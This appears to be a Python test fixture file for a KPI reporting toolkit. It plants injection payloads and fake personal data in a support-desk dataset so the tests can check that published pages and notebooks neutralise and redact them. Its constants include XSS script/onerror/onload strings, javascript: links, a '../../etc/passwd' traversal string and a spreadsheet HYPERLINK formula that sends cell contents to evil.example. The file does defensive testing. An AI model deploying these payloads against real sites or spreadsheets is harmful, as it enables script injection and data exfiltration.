"""A desk whose texts try everything at once, its pages made without a kernel, and the persons that must not show."""

import os
import re
from dataclasses import replace
from functools import cache
from pathlib import Path
from unicodedata import normalize
from unittest.mock import patch

import nbformat
import pandas as pd

from kpitools import cards, plots, views
from kpitools.compute import compute
from kpitools.desk import Desk
from kpitools.kpi import Words
from kpitools.kpis import get
from kpitools.report import site
from kpitools.report.mail import Mail
from kpitools.report.plan import Page, Plan
from kpitools.report.runner import Outcome
from kpitools.scorecard import scorecard
from kpitools.settings import Settings

SCRIPT = "<script>window.hit=1</script><img src=x onerror=window.hit=2><svg onload=window.hit=3></svg>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
PATH = "../../etc/passwd"
AGENT, CUSTOMER = "Lan Nguyễn", "Trần Văn Bình"
PERSONS = ("Lan Nguyễn", "Trần Văn Bình", "lan@shop.vn", "binh.tran@mail.example", "0912345678", "091 234 56 78")
WEEKS = 26
# What reaches a person, in forty ways of writing it; behind each stands what must not be left of it.
PHONES = (
    *(
        "SĐT:0912345678",
        "tel:0912345678",
        "zalo 0912345678",
        "0912 345 678",
        "0912.345.678",
        "0912-345-678",
        "0912 345678",
    ),
    *("0 912 345 678", "84912345678", "84 912 345 678", "+84912345678", "+84 912 345 678", "+84.912.345.678"),
    *("(+84) 912 345 678", "+84 (0) 912 345 678", "0084912345678", "0912345678: gọi lại", "0912345678/0987654321"),
    *(
        "0912345678 0987654321",
        "(0912) 345 678",
        "０９１２３４５６７８",
        "＋８４ ９１２ ３４５ ６７８",
        "0912\N{EN DASH}345\N{EN DASH}678",
    ),
    *("0912\N{NO-BREAK SPACE}345\N{NO-BREAK SPACE}678", "0912\N{ZERO WIDTH SPACE}345678"),
)
MAILS = (
    *("le.tu@shop.vn", "le.tu@localhost", "le.tu%40shop.vn", "le.tu[at]shop.vn", "le.tu (at) shop (dot) vn"),
    *("le.tu＠shop.vn", "LE.TU@SHOP.VN", "<le.tu@shop.vn>", "mailto:le.tu@shop.vn"),
)
NAMES = ("Lê Cẩm Tú", "lê cẩm tú", "LÊ CẨM TÚ", "Lê  Cẩm  Tú", normalize("NFD", "Lê Cẩm Tú"), "Le Cam Tu")
PLANTED = (*PHONES, *MAILS, *NAMES)
LEFT = re.compile(r"\D9\W*1\W*2\W*3\W*4\W*5\W*6\W*7\W*8|987654321|le\.tu|l[êe]\s+c[ẩa]m\s+t[úu]", re.IGNORECASE)


def left_of(text: str) -> set[str]:
    """What of the planted persons is in a text."""
    bare = re.sub("[\u200b\u00ad]", "", normalize("NFKC", f" {text}"))
    return {found[0] for found in LEFT.finditer(re.sub(r"84(?=9)|84\D{1,5}0?(?=9)|0(?=9)", " ", bare))}


def planted(**settings) -> Desk:
    """A desk that holds all of them: in topics, teams, its name, titles of its own KPIs and what was done."""
    rows = desk().base("tickets").to_pandas()
    topics = [PLANTED[i % len(PLANTED)] for i in range(len(rows))]
    rows = rows.assign(topic=topics, team=[f"Đội {text}" for text in topics], channel=topics, agent_id=NAMES[0])
    records = {
        f"own_{place}": replace(get("ticket_volume"), name=f"own_{place}", title=Words(f"{text} a", f"{text} b"))
        for place, text in enumerate(PLANTED)
    }
    done = pd.DataFrame({"on": ["2025-04-01"] * len(PLANTED), "kpi": None, "what": PLANTED})
    given = {"timezone": "UTC", "as_of": rows.created_at.max().to_pydatetime(), "interventions": done}
    given["name"] = " | ".join(PLANTED)
    return Desk.from_frames({"tickets": rows}, settings=Settings(kpis=records), **(given | settings))


def desk(**settings) -> Desk:
    """26 weeks, a ticket a day; every text a payload, a person or both."""
    created = pd.date_range("2025-01-06 02:00", periods=7 * WEEKS, freq="D")
    teams = [SCRIPT, FORMULA, f"{PATH} lan@shop.vn", "Hotline 0912345678"]
    rows = pd.DataFrame(
        {
            "ticket_id": [str(80_000 + i) for i in range(len(created))],
            "created_at": created,
            "first_reply_at": created + pd.to_timedelta([1 + i % 5 for i in range(len(created))], unit="h"),
            "status": "open",
            "team": [teams[i % 4] for i in range(len(created))],
            "channel": [f"{SCRIPT} binh.tran@mail.example" if i % 2 else FORMULA for i in range(len(created))],
            "topic": "gọi lại 091 234 56 78",
            "subject": f"{CUSTOMER} 0912345678 {SCRIPT}",
            "agent_id": [AGENT if i % 2 else "lan@shop.vn" for i in range(len(created))],
            "customer_id": CUSTOMER,
        }
    )
    targets = pd.DataFrame({"kpi": ["first_response_time"], "target": [2.5]})
    given = {"timezone": "UTC", "as_of": created[-1].to_pydatetime(), "targets": targets}
    given["interventions"] = pd.DataFrame({"on": ["2025-04-01"], "kpi": [None], "what": [f"{SCRIPT} lan@shop.vn"]})
    given["name"] = f"Desk {SCRIPT} lan@shop.vn"
    return Desk.from_frames({"tickets": rows}, **(given | settings))


def display_of(drawn, alt: str | None = None) -> nbformat.NotebookNode:
    """What `show` puts into a notebook."""
    with patch("IPython.display.display") as display:
        plots.show(drawn, alt)
    (data,), options = display.call_args
    return nbformat.v4.new_output("display_data", data, metadata=options["metadata"])


def _html(text: str, kind: str = "text/html") -> nbformat.NotebookNode:
    return nbformat.v4.new_output("display_data", {kind: text})


@cache
def outputs(of: Desk, language: str) -> list[nbformat.NotebookNode]:
    """A trend, a breakdown and the rows behind, as the toolkit shows them; then what a careless notebook does."""
    kpi, people = get("first_response_time"), f"{CUSTOMER} {AGENT} lan@shop.vn binh.tran@mail.example 0912345678"
    styled = pd.DataFrame({SCRIPT: [people]}).style.set_caption(SCRIPT).to_html()
    series = compute(kpi, of, every="week")
    groups = views.breakdown(kpi, of, "team")
    return [
        _html(cards.definition_card(kpi, of, language)._repr_html_()),
        display_of(plots.trend(views.judged(series, kpi, of), kpi, language)),
        display_of(plots.breakdown(groups, kpi, "team", language=language)),
        _html(cards.breakdown_table(groups, kpi, "team", language)._repr_html_()),
        _html(cards.rows_table(of, kpi, language=language)._repr_html_()),
        _html(cards.show_table(pd.DataFrame({"file": [f"{SCRIPT} lan@shop.vn.csv"]}), SCRIPT)._repr_html_()),
        _html(styled),
        _html(f"<p>{people}</p>{SCRIPT}<a href='mailto:lan@shop.vn'>x</a><a href='javascript:window.hit=4'>y</a>"),
        _html(f"**{people}** {SCRIPT} [x](javascript:window.hit=5)", "text/markdown"),
        nbformat.v4.new_output("stream", name="stdout", text=f"{people} {SCRIPT}"),
        nbformat.v4.new_output("error", ename="ValueError", evalue=people, traceback=[f"{people} {SCRIPT}"]),
        display_of(plots.breakdown(groups, kpi, "team", language=language), alt=f'"{people}" {SCRIPT}'),
    ]


def notebook(of: Desk, language: str) -> nbformat.NotebookNode:
    cells = [nbformat.v4.new_markdown_cell(f"# First response time {SCRIPT} lan@shop.vn")]
    cells.append(nbformat.v4.new_code_cell("kt.show()", outputs=outputs(of, language), execution_count=1))
    return nbformat.v4.new_notebook(cells=cells)


def plan(folder: Path, **more) -> Plan:
    """One page, in both languages, whose parameters hold a payload and a person."""
    source = folder / "first_response_time.ipynb"
    cell = nbformat.v4.new_code_cell('by: str = "team"\nnote: str = ""', metadata={"tags": ["parameters"]})
    spec = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nbformat.write(nbformat.v4.new_notebook(cells=[cell], metadata={"kernelspec": spec}), source)
    page = Page(source, "first_response_time", {"note": f"{SCRIPT} lan@shop.vn"}, {}, ("by", "note"))
    return Plan(desk=folder, publish=folder / "site", pages=(page,), **more)


def publish_index(folder: Path, of: Desk, previous: Path | None = None, **more) -> Path:
    """The first page and what stands around it, in one language."""
    out = folder / os.urandom(4).hex()
    out.mkdir()
    site.write_index(plan(folder, languages=("en",), **more), scorecard(of), [], out, previous)
    return out


def publish(folder: Path, of: Desk | None = None, **more) -> Path:
    """The whole site, with a page that went well and one that failed, as the runner writes it."""
    of, planned, out = of or desk(), plan(folder, **more), folder / os.urandom(4).hex()
    out.mkdir()
    bad = Page(planned.pages[0].notebook, "bad", {}, {}, ())
    entries = []
    for language in planned.languages:
        good = Outcome(planned.pages[0], language, "ok", 1.0, "", notebook(of, language))
        failed = Outcome(bad, language, "failed", 1.0, f"ValueError: {AGENT} lan@shop.vn {SCRIPT}", good.notebook)
        entries += [site.write_page(outcome, planned, of, out) for outcome in (good, failed)]
    site.write_index(planned, scorecard(of), entries, out)
    return out


MAIL = Mail(("lead@example.org",), "kpi@example.org", "127.0.0.1", 25, "none", "", "https://intranet.example/kpi/")
